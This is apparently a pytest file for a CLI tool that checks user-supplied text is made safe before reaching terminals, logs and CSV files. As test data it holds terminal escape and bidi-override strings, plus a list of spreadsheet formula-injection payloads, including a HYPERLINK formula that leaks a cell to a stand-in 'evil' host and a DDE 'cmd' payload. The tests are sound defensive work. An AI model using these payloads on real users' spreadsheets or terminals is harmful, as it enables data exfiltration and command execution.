"""What others write (names, reasons, paths) reaches terminals, logs and spreadsheets as text and nothing else."""

import csv
import io
import json
import os
import pty
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chipwise.cli.main import run
from chipwise.cli.router_log import RouterLog
from chipwise.io.printable import csv_cell, csv_text, json_escaped, printable, printable_lines
from chipwise.present.blocks import Table, Text
from chipwise.present.output import emit_csv, emit_json
from chipwise.present.progress import Progress
from chipwise.present.terminal import Terminal, draw
from chipwise.present.text import plain
from chipwise.prices.custom_prices import CustomPriceRow, custom_prices_csv, read_custom_prices

ROOT = Path(__file__).parents[2]
FORGED = "\x1b]0;owned\x07\n04:00:00 job 99: attempt 1 in cpu: succeeded\x9b31m\u202e\u2066\x85\u2028\x7f"
OBEYED = {"Cc", "Cf", "Cs", "Zl", "Zp"}
anything = st.text(st.characters(exclude_categories=[])) | st.text("\x1b\x9b\u202e\u2066\x07\n\t\r\x7f a", max_size=9)


def harmless(text, beside=""):
    """Whether a text has nothing that a terminal might obey, but for these characters."""
    return not [c for c in text if unicodedata.category(c) in OBEYED and c not in beside]


@given(anything)
def test_no_text_has_anything_that_a_terminal_obeys(text):
    assert harmless(printable(text)) and printable(printable(text)) == printable(text)
    assert harmless(printable_lines(text), "\n\t") and text.count("\n") == printable_lines(text).count("\n")


@given(st.text())
def test_json_says_the_same(text):
    document = json.dumps({text: [text]}, ensure_ascii=False, indent=2)
    assert json.loads(json_escaped(document)) == {text: [text]} and harmless(json_escaped(document), "\n")


@pytest.mark.parametrize("text", ["Zoë", "計算", "µ×–→", "a b", "a\u00a0b\u3000c", "🙂"])
def test_ordinary_text_stays_as_it_is(text):
    assert printable(text) == text


@pytest.mark.parametrize(
    "block", [Text(FORGED), Text(FORGED, True), Table(["a", "b"], [["1", FORGED]], title=FORGED, under=("b",))]
)
def test_blocks_are_drawn_harmless_on_every_face(block):
    lines = plain(block).splitlines()
    assert harmless(plain(block), "\n") and not any(line.startswith("04:00:00") for line in lines)
    for width in (40, 200):
        stream = io.StringIO()
        draw([block], Terminal(stream, width, color=False, ascii=False))
        assert harmless(stream.getvalue(), "\n")


def test_lines_of_the_router_are_one_line_each_and_harmless(capsys):
    log = object.__new__(RouterLog)
    log.lines, log.said, log.quiet = [], 0, False
    log.say(f"04:00:00 job 1: attempt 1 in cpu: failed ({FORGED})")
    shown = capsys.readouterr().out
    assert harmless(shown, "\n") and shown.count("\n") == 1
    assert all(harmless(line) for line in log.lines)


def test_progress_is_harmless(capsys):
    line = Progress("work")
    line.shown, line.start = True, 0.0
    line(1, 2, FORGED)
    line.keep(FORGED)
    assert harmless(capsys.readouterr().err, "\r\n")


@pytest.mark.parametrize(
    ("file", "text", "arguments"),
    [
        ("jobs.yaml", 'name: "\\x9b31mred\\u202e"\ncommand: [a]\n', ["jobs", "submit", "FILE", "--pools", "p.yaml"]),
        ("fleet.yaml", 'workloads: []\ncandidates: [{"\\e]0;pwn\\a": 1}]\n', ["fleet", "plan", "FILE"]),
        ("a\x1b[2J.yaml", "model: x\n", ["predict", "FILE", "--on", "h100:8"]),
        ("no.yaml", "", ["compare", "FILE", "--on", "h100\x9b2J\u202e"]),
        ("no.yaml", "", ["compare", "FILE", "--no-such-\x1b[2J"]),
    ],
)
def test_errors_are_one_harmless_line(file, text, arguments, tmp_path, capsys):
    path = tmp_path / file
    path.write_text(text)
    assert run([str(path) if word == "FILE" else word for word in arguments]) == 2
    error = capsys.readouterr().err
    assert error.startswith("chipwise: ") and error.count("\n") == 1 and harmless(error, "\n")


def test_a_currency_of_a_bill_is_shown_harmless(tmp_path, capsys):
    bill = (ROOT / "examples/prices/focus-aws.csv").read_text().replace(",USD,", ",USD\x1b[31m\x9b\u202e,")
    (tmp_path / "bill.csv").write_text(bill)
    assert run(["prices", "import", "focus", str(tmp_path / "bill.csv"), "--out", str(tmp_path / "own.csv")]) == 2
    assert harmless(capsys.readouterr().err, "\n")


def test_json_and_csv_on_stdout_are_harmless(capsys):
    emit_json({"name": FORGED})
    shown = capsys.readouterr().out
    assert harmless(shown, "\n") and json.loads(shown) == {"name": FORGED}
    emit_csv([{"name": FORGED}])
    assert harmless(capsys.readouterr().out, "\n")


def test_a_terminal_is_shown_nothing_that_it_obeys_and_a_pipe_every_byte():
    code = "from chipwise.present.output import write; write('a\\x1b[2J\\tb\\n', None)"
    parent, child = pty.openpty()
    subprocess.run([sys.executable, "-c", code], stdout=child, check=True)
    os.close(child)
    assert os.read(parent, 100) == b"a\\x1b[2J\tb\r\n"
    os.close(parent)
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=True).stdout == b"a\x1b[2J\tb\n"


FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"ok")',
    "@SUM(1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "＝1+1",
    "--x",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_begins_a_formula(text, capsys):
    emit_csv([{"name": text, "number": -1.5, "shown": "-1.5", "count": -3, "none": None}])
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["name"] == "'" + printable(text)
    assert (row["number"], row["shown"], row["count"], row["none"]) == ("-1.5", "-1.5", "-3", "")


@pytest.mark.parametrize("text", ["-1.5", "+3", "-1e-9", "-.5", "-12%", "-", "a=b", "dp=8,tp=2", "'tis", ""])
def test_numbers_and_ordinary_text_stay_as_they_are(text):
    assert csv_cell(text) == text


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_every_number_stays_a_number(number):
    assert (
        csv_cell(number) == number and csv_cell(str(number)) == str(number) and csv_cell(f"{number:+}") == f"{number:+}"
    )


@given(st.text(st.characters(exclude_categories=list(OBEYED | {"Cn", "Co"}))))
def test_what_is_marked_is_read_back(text):
    assert csv_text(csv_cell(text)) == text or text.startswith("'")


def test_own_prices_with_such_names_are_marked_and_read_back(tmp_path):
    row = CustomPriceRow("h100", "@cloud", "=us", "+big", 8.0, (2.0, *(None for _ in range(3))), "2026-11-01", "=1", "")
    file = tmp_path / "own.csv"
    file.write_text(custom_prices_csv([row]))
    (written,) = csv.DictReader(file.read_text().splitlines())
    assert [written[name] for name in ("cloud", "region", "instance")] == ["'@cloud", "'=us", "'+big"]
    (offer,) = read_custom_prices(file).offers
    assert (offer.cloud, offer.region, offer.instance) == ("@cloud", "=us", "+big")
